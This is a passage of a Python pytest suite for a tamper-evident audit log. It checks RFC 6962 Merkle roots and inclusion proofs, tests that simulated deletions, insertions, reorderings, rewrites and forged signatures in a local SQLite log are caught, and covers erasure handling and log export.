"""The audit log against planted tampers and reference implementations.

Merkle trees and audit paths are checked against a slow implementation of
RFC 6962's definitions written here (and the Certificate Transparency test
vectors); verification against every single-byte change of a stored record,
and against deleted, inserted, reordered and truncated records.
"""
from __future__ import annotations

import hashlib
import json
import os
import threading
import weakref
from pathlib import Path

import pytest
import sqlalchemy as sa

from heron.cli.main import main
from heron.govern.audit import (
    EVENT_ERASE, GENESIS, LOG_ENV, AuditLog, LogCheckpoint, InclusionProof, Record, audit_log, log_location,
    record_event, record_fields, record_hash, sign_checkpoint, verify_log, verify_proof,
)
from heron.govern.audit_export import export_log, read_export
from heron.govern.audit_keys import generate_keys, load_public_key, load_signing_key, sign
from heron.govern.audit_lineage import audit_lineage, format_lineage
from heron.govern.card import write_document
from heron.govern.digest import Artifact, file_sha256, folder_sha256, json_sha256, listing_sha256, model_hash
from heron.govern.merkle import inclusion_proof, leaf_hash, merkle_root, node_hash, verify_inclusion
from heron.store.audit import audit_records

# ----- RFC 6962 Merkle trees against the definitions ------------------------------------------


def ref_mth(leaves: list[bytes]) -> bytes:
    """MTH(D[n]) exactly as RFC 6962 section 2.1 writes it."""
    n = len(leaves)
    if n == 0:
        return hashlib.sha256(b"").digest()
    if n == 1:
        return hashlib.sha256(b"\x00" + leaves[0]).digest()
    k = 1
    while k * 2 < n:
        k *= 2
    return hashlib.sha256(b"\x01" + ref_mth(leaves[:k]) + ref_mth(leaves[k:])).digest()


def ref_path(m: int, leaves: list[bytes]) -> list[bytes]:
    """PATH(m, D[n]) exactly as RFC 6962 section 2.1.1 writes it."""
    n = len(leaves)
    if n == 1:
        return []
    k = 1
    while k * 2 < n:
        k *= 2
    if m < k:
        return ref_path(m, leaves[:k]) + [ref_mth(leaves[k:])]
    return ref_path(m - k, leaves[k:]) + [ref_mth(leaves[:k])]


def leaves_of(n: int) -> list[bytes]:
    return [hashlib.sha256(f"leaf {i}".encode()).digest()[: 1 + i % 40] for i in range(n)]


# The Certificate Transparency reference test vectors (certificate-transparency merkle_tree_test).
CT_LEAVES = ["", "00", "10", "2021", "3031", "40414243", "5051525354555657", "606162636465666768696a6b6c6d6e6f"]
CT_ROOTS = [
    "6e340b9cffb37a989ca544e6bb780a2c78901d3fb33738768511a30617afa01d",
    "fac54203e7cc696cf0dfcb42c92a1d9dbaf70ad9e621f4bd8d98662f00e3c125",
    "aeb6bcfe274b70a14fb067a5e5578264db0fa9b51af5e0ba159158f329e06e77",
    "d37ee418976dd95753c1c73862b9398fa2a2cf9b4ff0fdfe8b30cd95209614b7",
    "4e3bbb1f7b478dcfe71fb631631519a3bca12c9aefca1612bfce4c13a86264d4",
    "76e67dadbcdf1e10e1b74ddc608abd2f98dfb16fbce75277b5232a127f2087ef",
    "ddb89be403809e325750d3d263cd78929c2942b7942a34b77e122c9594a74c8c",
    "5dc9da79a70659a9ad559cb701ded9a2ab9d823aad2f4960cfe370eff4604328",
]


def test_merkle_roots_match_the_ct_test_vectors() -> None:
    leaves = [bytes.fromhex(h) for h in CT_LEAVES]
    assert merkle_root([]).hex() == hashlib.sha256(b"").hexdigest()
    for n, root in enumerate(CT_ROOTS, start=1):
        assert merkle_root(leaves[:n]).hex() == root


def test_merkle_roots_and_paths_match_the_rfc_definitions() -> None:
    for n in range(1, 34):
        leaves = leaves_of(n)
        root = merkle_root(leaves)
        assert root == ref_mth(leaves), n
        for m in range(n):
            proof = inclusion_proof(leaves, m)
            assert proof == ref_path(m, leaves), (n, m)
            assert verify_inclusion(leaves[m], m, n, proof, root)


def test_forged_inclusion_proofs_are_rejected() -> None:
    roots = {n: merkle_root(leaves_of(n)) for n in range(1, 36)}  # leaves_of(n) is a prefix of leaves_of(n + 1)
    for n in range(1, 34):
        leaves = leaves_of(n)
        root = roots[n]
        for m in range(n):
            proof = inclusion_proof(leaves, m)
            for i in range(len(proof)):  # a wrong sibling
                forged = list(proof)
                forged[i] = bytes([proof[i][0] ^ 1]) + proof[i][1:]
                assert not verify_inclusion(leaves[m], m, n, forged, root)
            for other in range(n + 2):  # a wrong index
                if other != m:
                    assert not verify_inclusion(leaves[m], other, n, proof, root)
            for size in range(m + 1, 36):  # a wrong size, against that size's root (a size and root go together)
                if size != n:
                    assert not verify_inclusion(leaves[m], m, size, proof, roots[size])
            if m == 0 and n > 1:  # the root of another size refuses even this proof's own size
                assert not verify_inclusion(leaves[m], m, n, proof, roots[n - 1])
            assert not verify_inclusion(leaves[m], m, n, proof + [root], root)  # one step too many
            assert not verify_inclusion(leaves[m] + b"x", m, n, proof, root)  # another leaf
    assert leaf_hash(b"") != node_hash(b"", b"")  # the 0x00 / 0x01 domain separation


# ----- a small log ----------------------------------------------------------------------------


@pytest.fixture
def data_file(tmp_path: Path) -> Path:
    path = tmp_path / "data.txt"
    path.write_text("the data\n")
    return path


def make_log(path: Path, data_file: Path, n: int = 6, **options) -> AuditLog:
    """n records: content kept for alternating subjects, a checkpoint every 4 records and one at the end."""
    options = {"store_content": True, "checkpoint_every": 4, **options}
    log = AuditLog.open(path, **options)
    for i in range(n):
        log.append(f"event.{i % 3}", actor="alice", inputs={"data": data_file, "meta": {"i": i}},
                   outputs={"digest": Artifact("json", "ab" * 32)}, model_hash="cd" * 32,
                   parameters={"step": i, "lr": 0.5}, content=f"request {i}", subject=f"user{i % 2}")
    log.checkpoint()
    return log


def rows_of(log: AuditLog) -> list[dict]:
    return list(log.store.records())


def report_of(log: AuditLog, rows: list[dict], checkpoints: list[LogCheckpoint] | None = None):
    return verify_log(rows, log.checkpoints() if checkpoints is None else checkpoints)


def test_an_untouched_log_verifies(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    report = log.verify()
    assert report.ok and report.records == 6 and report.checkpoints == 2, report
    records = log.records()
    assert [r.seq for r in records] == list(range(6))
    assert records[0].prev_hash == GENESIS and all(b.prev_hash == a.hash for a, b in zip(records, records[1:]))
    assert records[2].inputs["data"] == Artifact("file", file_sha256(data_file), str(data_file.resolve()))
    assert records[2].inputs["meta"].sha256 == json_sha256({"i": 2})
    assert records[2].content == "request 2" and records[2].parameters == {"step": 2, "lr": 0.5}
    assert [c.size for c in log.checkpoints()] == [4, 6]


def test_every_single_byte_change_of_a_record_is_named(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    rows, checkpoints = rows_of(log), log.checkpoints()
    text_fields = [c for c in rows[0] if isinstance(rows[0][c], str)]
    assert {"time", "actor", "inputs", "parameters", "content_ref", "prev_hash", "hash", "content",
            "content_salt"} <= set(text_fields)
    tried = 0
    for seq in range(len(rows)):
        masks = (0x01, 0x20, 0x40) if seq == 2 else (0x01,)  # every byte of one record, many bits
        for name in text_fields:
            data = rows[seq][name].encode("utf-8")
            for i in range(len(data)):
                for mask in masks:
                    changed = data[:i] + bytes([data[i] ^ mask]) + data[i + 1:]
                    tampered = [dict(r) for r in rows]
                    tampered[seq][name] = changed.decode("utf-8")
                    report = report_of(log, tampered, checkpoints)
                    assert not report.ok and report.first_bad == seq, (seq, name, i, mask, report)
                    tried += 1
    assert tried > 3000
    for value in (3, 99, -1):  # the sequence number itself
        tampered = [dict(r) for r in rows]
        tampered[2]["seq"] = value
        report = report_of(log, tampered)
        assert not report.ok and report.first_bad == 2, report


def tamper(log: AuditLog, sql: str, **params) -> None:
    with log.store.engine.begin() as conn:
        conn.execute(sa.text(sql), params)


def forged_row(log: AuditLog, seq: int, prev_hash: str, *, well_made: bool) -> dict:
    """A record an attacker writes: fields like the others, linked to prev_hash, hashed right or not."""
    row = {**rows_of(log)[0], "seq": seq, "prev_hash": prev_hash, "actor": "mallory", "content": None,
           "content_salt": None, "content_ref": None}
    row["hash"] = record_hash(record_fields(row)) if well_made else "ee" * 32
    return row


def test_a_deleted_record_is_named(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    tamper(log, "DELETE FROM audit_records WHERE seq = 2")
    report = log.verify()
    assert not report.ok and report.first_bad == 2 and "missing" in report.reason, report


def test_a_deleted_record_renumbered_over_is_named(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    tamper(log, "DELETE FROM audit_records WHERE seq = 2")
    for seq in (3, 4, 5):
        tamper(log, "UPDATE audit_records SET seq = :new WHERE seq = :old", new=seq - 1, old=seq)
    report = log.verify()
    assert not report.ok and report.first_bad == 2, report


@pytest.mark.parametrize("well_made", [True, False])
def test_an_inserted_record_is_named(tmp_path: Path, data_file: Path, well_made: bool) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    rows = rows_of(log)
    for seq in (5, 4, 3):  # make room at 3
        tamper(log, "UPDATE audit_records SET seq = :new WHERE seq = :old", new=seq + 1, old=seq)
    with log.store.engine.begin() as conn:
        conn.execute(sa.insert(audit_records).values(**forged_row(log, 3, rows[2]["hash"], well_made=well_made)))
    report = log.verify()
    assert not report.ok and report.first_bad == 3, report
    if well_made:
        assert "inserted" in report.reason


def test_an_inserted_record_in_an_export_is_named(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    rows = rows_of(log)
    rows.insert(4, forged_row(log, 4, rows[3]["hash"], well_made=True))
    report = report_of(log, rows)
    assert not report.ok and report.first_bad == 4 and "inserted" in report.reason, report


def test_two_reordered_records_are_named(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    tamper(log, "UPDATE audit_records SET seq = 100 WHERE seq = 1")
    tamper(log, "UPDATE audit_records SET seq = 1 WHERE seq = 4")
    tamper(log, "UPDATE audit_records SET seq = 4 WHERE seq = 100")
    report = log.verify()
    assert not report.ok and report.first_bad == 1, report
    other = make_log(tmp_path / "b.db", data_file)
    rows = rows_of(other)
    rows[1], rows[4] = rows[4], rows[1]  # moved in an export, numbers and all
    assert report_of(other, rows).first_bad == 1


def test_truncation_below_a_checkpoint_is_named(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)  # checkpoints at 4 and 6
    tamper(log, "DELETE FROM audit_records WHERE seq >= 5")
    report = log.verify()
    assert not report.ok and report.first_bad == 5 and "removed" in report.reason, report
    tamper(log, "DELETE FROM audit_records WHERE seq >= 3")
    assert log.verify().first_bad == 3


def test_with_the_default_checkpoints_cutting_the_last_record_is_named(tmp_path: Path) -> None:
    log = AuditLog.open(tmp_path / "a.db")  # a checkpoint after every record
    for i in range(3):
        log.append(f"event.{i}", actor="alice")
    tamper(log, "DELETE FROM audit_records WHERE seq = 2")
    report = log.verify()
    assert not report.ok and report.first_bad == 2 and "removed" in report.reason, report


def test_truncation_after_the_last_checkpoint_is_not_detectable(tmp_path: Path, data_file: Path) -> None:
    """The documented limit: a shorter chain is a valid chain, so only checkpoints reveal a cut tail."""
    log = make_log(tmp_path / "a.db", data_file)
    log.append("late", actor="alice")
    tamper(log, "DELETE FROM audit_records WHERE seq = 6")
    assert log.verify().ok


def rechain(log: AuditLog, start: int) -> None:
    """What an attacker with write access can do: recompute every hash from `start` on."""
    rows = rows_of(log)
    for row in rows[start:]:
        row["prev_hash"] = rows[row["seq"] - 1]["hash"] if row["seq"] else GENESIS
        row["hash"] = record_hash(record_fields(row))
        tamper(log, "UPDATE audit_records SET prev_hash = :p, hash = :h, actor = :a WHERE seq = :s",
               p=row["prev_hash"], h=row["hash"], a=row["actor"], s=row["seq"])


def test_a_rewrite_with_recomputed_hashes_is_caught_by_a_checkpoint(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    rows = rows_of(log)
    tamper(log, "UPDATE audit_records SET actor = 'mallory' WHERE seq = 5")
    rows[5]["actor"] = "mallory"
    rechain(log, 5)
    report = log.verify()  # records 0..3 still match the checkpoint at 4; the one at 6 names 4..5
    assert not report.ok and report.first_bad == 4 and "rewritten" in report.reason, report


def test_a_checkpoint_whose_size_the_database_sorts_as_text_is_reported(tmp_path: Path) -> None:
    """SQLite keeps '1_0' as text in the size column and sorts it after every number, while Python reads
    it as 10: verify streams checkpoints in the database's order, so it must notice one out of order."""
    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
    for i in range(20):
        log.append("event", actor="alice", parameters={"i": i})
    log.checkpoint()
    with log.store.engine.begin() as conn:  # a forged checkpoint over records 0..9, with a wrong root
        conn.execute(sa.text("INSERT INTO audit_checkpoints (size, root, time, signature, frontier) "
                             "VALUES ('1_0', :root, 't', NULL, '[]')"), {"root": "00" * 32})
    report = log.verify()
    assert not report.ok
    assert "checkpoint #2 (size 10, t) comes after checkpoints of more records" in report.reason


def test_a_checkpoint_whose_size_is_no_number_is_reported_and_appends_go_on(tmp_path: Path) -> None:
    """A size that is no number at all was a bare ValueError out of verify ("invalid literal for int()"),
    and a TypeError out of every later append, after its record was written."""
    log = AuditLog.open(tmp_path / "a.db")
    for i in range(3):
        log.append("event", actor="alice", parameters={"i": i})
    with log.store.engine.begin() as conn:
        conn.execute(sa.text("UPDATE audit_checkpoints SET size = 'x' WHERE id = 2"))
    report = log.verify()
    assert (report.ok, report.checkpoint) == (False, "checkpoint #2"), report
    assert report.reason == "damaged: checkpoint #2 has size 'x', not a whole number of records"
    record = log.append("event", actor="alice", parameters={"i": 3})  # the damaged checkpoint is not extended
    assert record.seq == 3 and [c["size"] for c in log.store.checkpoints()] == [1, "x", 3, 4]
    assert verify_log(rows_of(log)).ok  # the records themselves are whole


def test_a_record_rehashed_alone_breaks_the_link_of_the_next(tmp_path: Path) -> None:
    """No checkpoint to lean on: record 1 changed and its own hash recomputed holds by itself, so
    only record 2's prev_hash (still the old hash) gives it away."""
    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=1000)
    for i in range(4):
        log.append(f"event.{i}", actor="alice", parameters={"i": i})
    assert log.checkpoints() == []
    rows = [dict(r) for r in rows_of(log)]
    rows[1]["actor"] = "mallory"
    rows[1]["hash"] = record_hash(record_fields(rows[1]))
    report = verify_log(rows)
    assert (report.ok, report.first_bad, report.records) == (False, 2, 3), report
    assert report.reason == "unlinked: its prev_hash is not the hash of record 1"


def test_signatures(tmp_path: Path, data_file: Path) -> None:
    private, public = generate_keys(tmp_path / "keys")
    other_private, other_public = generate_keys(tmp_path / "other")
    assert private.stat().st_mode & 0o777 == 0o600
    with pytest.raises(FileExistsError):
        generate_keys(tmp_path / "keys")
    key, public_key = load_signing_key(private), load_public_key(public)
    log = make_log(tmp_path / "a.db", data_file, sign_key=key)
    assert all(c.signature for c in log.checkpoints())
    report = log.verify(public_key=public_key)
    assert report.ok and report.signed == 2, report
    assert not log.verify(public_key=load_public_key(other_public)).ok  # another key
    unsigned = make_log(tmp_path / "b.db", data_file)
    assert "no checkpoint is signed" in unsigned.verify(public_key=public_key).reason
    forged = load_signing_key(other_private)
    tamper(log, "UPDATE audit_checkpoints SET signature = :s WHERE id = 2",
           s=forged.sign(log.checkpoints()[1].message()).hex())
    report = log.verify(public_key=public_key)
    assert not report.ok and "signature does not verify" in report.reason and "#2" in report.checkpoint, report
    tamper(log, "UPDATE audit_checkpoints SET signature = 'zz' WHERE id = 2")  # not even hex
    assert not log.verify(public_key=public_key).ok


def test_a_signed_external_checkpoint_anchors_the_tail(tmp_path: Path, data_file: Path) -> None:
    key = load_signing_key(generate_keys(tmp_path / "keys")[0])
    public_key = load_public_key(tmp_path / "keys" / "audit_ed25519.pub.pem")
    log = make_log(tmp_path / "a.db", data_file, checkpoint_every=0)
    anchor = LogCheckpoint.from_json(log.checkpoint(sign_key=key).to_json())  # kept away from the database
    assert log.verify(public_key=public_key, anchors=[anchor]).ok
    tamper(log, "DELETE FROM audit_records WHERE seq >= 4")
    tamper(log, "DELETE FROM audit_checkpoints")  # the attacker removes what the database holds
    assert log.verify().ok  # nothing left inside to tell
    report = log.verify(public_key=public_key, anchors=[anchor])
    assert not report.ok and report.first_bad == 4 and "external checkpoint" in report.reason, report


def verify_from_lists(log: AuditLog, public_key=None, anchors=()):
    """`AuditLog.verify` the way it read the log before it streamed: every checkpoint at once, the
    anchors equal to none of them after, and `verify_log` over the lists."""
    stored = log.checkpoints()
    kept = [c.to_json() for c in stored]
    extra = [anchor for anchor in anchors if anchor.to_json() not in kept]
    return verify_log(rows_of(log), [*stored, *extra], public_key=public_key)


def test_verify_streaming_the_checkpoints_reports_as_the_lists_do(tmp_path: Path, data_file: Path) -> None:
    """Anchors equal to a stored checkpoint, differing from one of the same size, and beyond the log;
    then a rewrite, a cut, a forged signature (reported before the damaged records, as always)."""
    key = load_signing_key(generate_keys(tmp_path / "keys")[0])
    public_key = load_public_key(tmp_path / "keys" / "audit_ed25519.pub.pem")
    log = make_log(tmp_path / "a.db", data_file, n=9, sign_key=key)  # checkpoints at 4, 8, 9
    same = LogCheckpoint.from_json(log.checkpoints()[1].to_json())
    other = sign_checkpoint(LogCheckpoint(size=4, root="00" * 32, time="2020-01-01T00:00:00+00:00"), key)
    beyond = sign_checkpoint(LogCheckpoint(size=12, root="11" * 32, time="2020-01-01T00:00:00+00:00"), key)
    cases = [(None, []), (public_key, [same]), (public_key, [beyond, same, other]), (None, [other, other])]

    def check(expect_ok: list[bool]) -> list:
        reports = [log.verify(public_key=pk, anchors=anchors) for pk, anchors in cases]
        assert reports == [verify_from_lists(log, pk, anchors) for pk, anchors in cases]
        assert [r.ok for r in reports] == expect_ok, reports
        return reports

    assert check([True, True, False, False])[1].checkpoints == 3  # `same` counted once
    tamper(log, "UPDATE audit_records SET actor = 'mallory' WHERE seq = 6")
    rechain(log, 6)
    assert check([False] * 4)[0].first_bad == 4
    tamper(log, "DELETE FROM audit_records WHERE seq >= 7")
    check([False] * 4)
    tamper(log, "UPDATE audit_checkpoints SET signature = :s WHERE id = 2", s=sign(b"other", key))
    reports = check([False] * 4)
    assert reports[1].records == 0 and "signature does not verify" in reports[1].reason, reports[1]


def test_verify_holds_a_few_checkpoints_at_a_time_not_all(tmp_path: Path, monkeypatch) -> None:
    """With a checkpoint after every record (the default), verify read every checkpoint (frontier
    and all) before the first record. It reads them beside the records, in size order."""
    log = AuditLog.open(tmp_path / "a.db")
    for i in range(40):
        log.append("event", actor="alice", parameters={"i": i})
    alive, made, read = weakref.WeakValueDictionary(), LogCheckpoint.from_json.__func__, log.store.records

    def tracked(cls, data, id=None) -> LogCheckpoint:
        checkpoint = made(cls, data, id)
        alive[id] = checkpoint
        return checkpoint

    def records(**filters):
        for row in read(**filters):
            held.append(len(alive))
            yield row

    held: list[int] = []
    monkeypatch.setattr(LogCheckpoint, "from_json", classmethod(tracked))
    monkeypatch.setattr(log.store, "records", records)
    report = log.verify()
    assert report.ok and (report.records, report.checkpoints) == (40, 40), report
    assert len(held) == 40 and max(held) <= 2, held


def test_inclusion_proofs_of_records(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file, n=11)
    records, checkpoints = log.records(), log.checkpoints()
    first, checkpoint = checkpoints[0], checkpoints[-1]
    assert (first.size, checkpoint.size) == (4, 11)
    for record in records:
        proof = log.prove(record.seq)
        assert verify_proof(record, proof, checkpoint)
        if record.seq < first.size:
            assert verify_proof(record, log.prove(record.seq, first), first)
    proof = log.prove(5)
    wrong_sibling = InclusionProof(5, proof.size, (("00" * 32),) + proof.path[1:])
    assert not verify_proof(records[5], wrong_sibling, checkpoint)
    assert not verify_proof(records[5], InclusionProof(6, proof.size, proof.path), checkpoint)  # wrong index
    assert not verify_proof(records[5], InclusionProof(5, 12, proof.path), checkpoint)  # wrong size
    assert not verify_proof(records[6], proof, checkpoint)  # another record
    altered = Record(**{**records[5].__dict__, "actor": "mallory"})  # a record whose fields no longer hash
    assert not verify_proof(altered, proof, checkpoint)
    with pytest.raises(ValueError, match="no checkpoint covers record 11"):
        log.prove(11)


def test_erasing_content_keeps_the_log_verifiable(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file, redact=lambda text: text.replace("request", "[redacted]"))
    assert log.records()[1].content == "[redacted] 1"  # kept only after redaction
    hashes = [r.hash for r in log.records()]
    assert log.erase("user1", actor="dpo", reason="erasure request") == [1, 3, 5]
    records = log.records()
    assert [r.hash for r in records[:6]] == hashes
    assert [r.content for r in records[:6]] == ["[redacted] 0", None, "[redacted] 2", None, "[redacted] 4", None]
    assert all(row["content_salt"] is None for row in log.store.records(subject="user1") if row["seq"] < 6)
    erase = records[6]
    assert erase.event == EVENT_ERASE and erase.parameters["records"] == [1, 3, 5] and erase.subject == "user1"
    assert log.verify().ok
    assert log.erase("user1") == []  # nothing left to erase: no record
    tamper(log, "UPDATE audit_records SET content = NULL, content_salt = NULL WHERE seq = 2")  # not by erase
    report = log.verify()
    assert not report.ok and report.first_bad == 2 and "no audit.erase" in report.reason, report


def test_an_erase_committed_while_verify_reads_is_not_tampering(tmp_path: Path, data_file: Path,
                                                                  monkeypatch) -> None:
    """Another process erases after verify read the erase records and before it reads the records
    (each read sees what was committed when it ran): the cleared record is looked up again, and
    found named. A removal no erase record names is still caught that way."""
    from heron.store.audit import AuditStore

    log = make_log(tmp_path / "a.db", data_file, checkpoint_every=0)
    read_checkpoints = AuditStore.checkpoints_by_size

    def erase_meanwhile(store, conn):
        monkeypatch.setattr(AuditStore, "checkpoints_by_size", read_checkpoints)
        other = AuditLog.open(tmp_path / "a.db")  # its own engine and connection, as another process has
        assert other.erase("user1") == [1, 3, 5]
        other.close()
        return read_checkpoints(store, conn)

    monkeypatch.setattr(AuditStore, "checkpoints_by_size", erase_meanwhile)
    report = log.verify()
    assert report.ok, report
    tamper(log, "UPDATE audit_records SET content = NULL, content_salt = NULL WHERE seq = 2")
    report = log.verify()
    assert not report.ok and report.first_bad == 2 and "no audit.erase" in report.reason, report


def test_hash_only_keeps_no_content(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file, store_content=False)
    row = rows_of(log)[0]
    assert row["content"] is None and row["content_salt"] is not None
    ref = log.records()[0].content_ref
    assert not ref.stored and ref.sha256 == hashlib.sha256(bytes.fromhex(row["content_salt"]) + b"request 0").hexdigest()
    assert log.verify().ok


def test_concurrent_appends_keep_one_chain(tmp_path: Path) -> None:
    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=7)

    def work(worker: int) -> None:
        for i in range(8):
            log.append("serve.request", actor=f"worker{worker}", parameters={"i": i})

    threads = [threading.Thread(target=work, args=(w,)) for w in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    report = log.verify()
    assert report.ok and report.records == 32, report


# ----- where the log lives --------------------------------------------------------------------


def test_location_and_record_event(tmp_path: Path, monkeypatch, data_file: Path) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv(LOG_ENV)
    assert log_location() == str(tmp_path / "runs" / "audit.db")
    monkeypatch.setenv(LOG_ENV, "off")
    assert audit_log() is None and record_event("x", inputs={"data": data_file}) is None
    assert not (tmp_path / "runs").exists()
    monkeypatch.setenv(LOG_ENV, str(tmp_path / "here.db"))
    record = record_event("x", inputs={"data": data_file, "skipped": None}, parameters={"path": tmp_path})
    assert record.actor and set(record.inputs) == {"data"} and record.parameters == {"path": str(tmp_path)}
    assert [r.seq for r in AuditLog.open(tmp_path / "here.db").records()] == [0]
    assert log_location("sqlite:///x.db") == "sqlite:///x.db"


def test_a_missing_sign_key_file_is_named_with_its_variable(tmp_path: Path, monkeypatch, data_file: Path) -> None:
    """$HERON_AUDIT_SIGN_KEY naming no file is refused naming the variable and the path, not with
    open()'s bare `[Errno 2]` from inside whatever command was recording; nothing is recorded."""
    monkeypatch.setenv(LOG_ENV, str(tmp_path / "here.db"))
    missing = tmp_path / "keys" / "private.pem"
    monkeypatch.setenv("HERON_AUDIT_SIGN_KEY", str(missing))
    with pytest.raises(FileNotFoundError) as err:
        record_event("x", inputs={"data": data_file})
    assert str(err.value) == f"HERON_AUDIT_SIGN_KEY: no private key at {missing}"
    monkeypatch.setenv("HERON_AUDIT_SIGN_KEY", str(tmp_path))
    with pytest.raises(IsADirectoryError, match=r"^HERON_AUDIT_SIGN_KEY: .* is a folder"):
        record_event("x", inputs={"data": data_file})
    private, public = generate_keys(tmp_path / "keys")
    monkeypatch.setenv("HERON_AUDIT_SIGN_KEY", str(private))
    record = record_event("x", inputs={"data": data_file})
    log = AuditLog.open(tmp_path / "here.db")
    assert [r.seq for r in log.records()] == [record.seq] == [0]
    assert log.verify(public_key=load_public_key(public)).ok  # the key the variable names signs


@pytest.mark.parametrize("bad, refusal", [("missing", FileNotFoundError), ("folder", IsADirectoryError),
                                          ("malformed", ValueError)])
def test_a_refused_sign_key_leaves_no_log_on_disk(tmp_path: Path, monkeypatch, data_file: Path, bad: str,
                                                  refusal: type[Exception]) -> None:
    """A bad $HERON_AUDIT_SIGN_KEY is refused before the log's database is made: a refused start
    leaves no empty or half-made SQLite file (nor the folder made for it) behind."""
    db = tmp_path / "runs" / "audit.db"
    monkeypatch.setenv(LOG_ENV, str(db))
    keys = tmp_path / "keys"
    keys.mkdir()
    key = keys if bad == "folder" else keys / "private.pem"
    if bad == "malformed":
        key.write_text("-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n")
    monkeypatch.setenv("HERON_AUDIT_SIGN_KEY", str(key))
    with pytest.raises(refusal) as err:
        record_event("x", inputs={"data": data_file})
    assert str(err.value).startswith("HERON_AUDIT_SIGN_KEY: ") and str(key) in str(err.value)
    assert not db.exists() and not db.parent.exists()


def test_an_unreadable_sign_key_is_named_with_its_variable_and_leaves_no_log(tmp_path: Path, monkeypatch,
                                                                             data_file: Path) -> None:
    """A key file this user may not read raised open()'s bare `[Errno 13] Permission denied: '...'`,
    naming the path but not the variable that pointed there."""
    db = tmp_path / "runs" / "audit.db"
    monkeypatch.setenv(LOG_ENV, str(db))
    private, _ = generate_keys(tmp_path / "keys")
    private.chmod(0)
    if os.access(private, os.R_OK):
        pytest.skip("this user (root) reads a file of mode 000")
    monkeypatch.setenv("HERON_AUDIT_SIGN_KEY", str(private))
    with pytest.raises(PermissionError) as err:
        record_event("x", inputs={"data": data_file})
    assert str(err.value) == f"HERON_AUDIT_SIGN_KEY: cannot read the private key at {private} (permission denied)"
    assert not db.exists() and not db.parent.exists()


def test_folder_hash_reuses_the_lineage_manifest(tmp_path: Path) -> None:
    folder = fake_checkpoint(tmp_path / "ckpt", {"recipe": {}})
    full = listing_sha256({p.relative_to(folder).as_posix(): file_sha256(p) for p in folder.rglob("*") if p.is_file()})
    assert folder_sha256(folder) == full
    lineage = json.loads((folder / "lineage.json").read_text())
    lineage["files"]["model.safetensors"]["sha256"] = "00" * 32  # a manifest that lies is used...
    (folder / "lineage.json").write_text(json.dumps(lineage))
    assert model_hash(folder) == "00" * 32
    lineage["files"]["model.safetensors"]["bytes"] += 1  # ...unless the size gives it away
    (folder / "lineage.json").write_text(json.dumps(lineage))
    (tmp_path / "elsewhere").mkdir()
    moved = folder.rename(tmp_path / "elsewhere" / "ckpt")
    assert folder_sha256(moved) == listing_sha256(
        {p.relative_to(moved).as_posix(): file_sha256(p) for p in moved.rglob("*") if p.is_file()})


# ----- export ------------------------------------------------------------------------------------


def test_an_export_replaces_its_file_whole_or_not_at_all(tmp_path: Path, data_file: Path, monkeypatch) -> None:
    log = make_log(tmp_path / "a.db", data_file, checkpoint_every=0)
    for name, fmt in (("out.json", "json"), ("out.csv", "csv")):
        out = tmp_path / name
        out.write_text("the previous export\n")

        def crash(*args):
            raise OSError("disk full")

        with monkeypatch.context() as patch:
            patch.setattr(os, "replace", crash)  # the rename that would put the new export in place
            with pytest.raises(OSError, match="disk full"):
                export_log(log, out, fmt)
        assert out.read_text() == "the previous export\n"
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_export_json_and_csv_round_trip(tmp_path: Path, data_file: Path) -> None:
    log = make_log(tmp_path / "a.db", data_file)
    log.erase("user0")
    rows = rows_of(log)
    assert export_log(log, tmp_path / "log.json") == 7
    back, checkpoints = read_export(tmp_path / "log.json")
    assert back == rows and checkpoints == [LogCheckpoint.from_json(c.to_json()) for c in log.checkpoints()]
    assert verify_log(back, checkpoints).ok
    document = json.loads((tmp_path / "log.json").read_text())
    assert document["records"][0]["parameters"] == {"lr": 0.5, "step": 0}  # readable, not JSON in JSON
    assert export_log(log, tmp_path / "log.csv", "csv") == 7
    back, _ = read_export(tmp_path / "log.csv")
    assert back == rows and verify_log(back).ok
    back[3]["actor"] = "mallory"
    assert verify_log(back).first_bad == 3


@pytest.mark.parametrize("content, lacks", [
    ("", "the header, seq,time,"), ("hi\n", "the header, seq,time,"), ('{"model": {"vocab": {}}}\n', "the header"),
    ("seq,time,actor\n", "event, subject,"),  # a log's columns cut short
])
def test_a_csv_that_is_not_an_export_is_refused_not_read_as_an_empty_log(tmp_path: Path, content, lacks) -> None:
    """`heron audit verify` called an empty or foreign .csv "intact: 0 records"."""
    path = tmp_path / "other.csv"
    path.write_text(content)
    with pytest.raises(ValueError, match=f"^{path}: not an audit log export: its first line lacks {lacks}"):
        read_export(path)


def test_an_export_to_a_stream_that_blocks_holds_no_writer_up(tmp_path: Path, data_file: Path,
                                                              monkeypatch) -> None:
    """`heron audit export - --format csv | less`: while the pager holds the stream, another process
    appends. Records are read whole into a spool file first, so no read of the log is open then; one
    open over the whole export kept SQLite's writers waiting, and failing after the busy timeout."""
    import io

    import heron.store.database as database

    log = make_log(tmp_path / "a.db", data_file, n=300, checkpoint_every=0)
    monkeypatch.setattr(database, "SQLITE_BUSY_SECONDS", 0.2)  # the other process's wait, cut short
    appended = []

    class Pager(io.StringIO):
        def write(self, text: str) -> int:
            if not appended and self.getvalue().count("\n") == 10:  # the pager is full: another process appends
                other = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
                appended.append(other.append("train", actor="bob").seq)
                other.close()
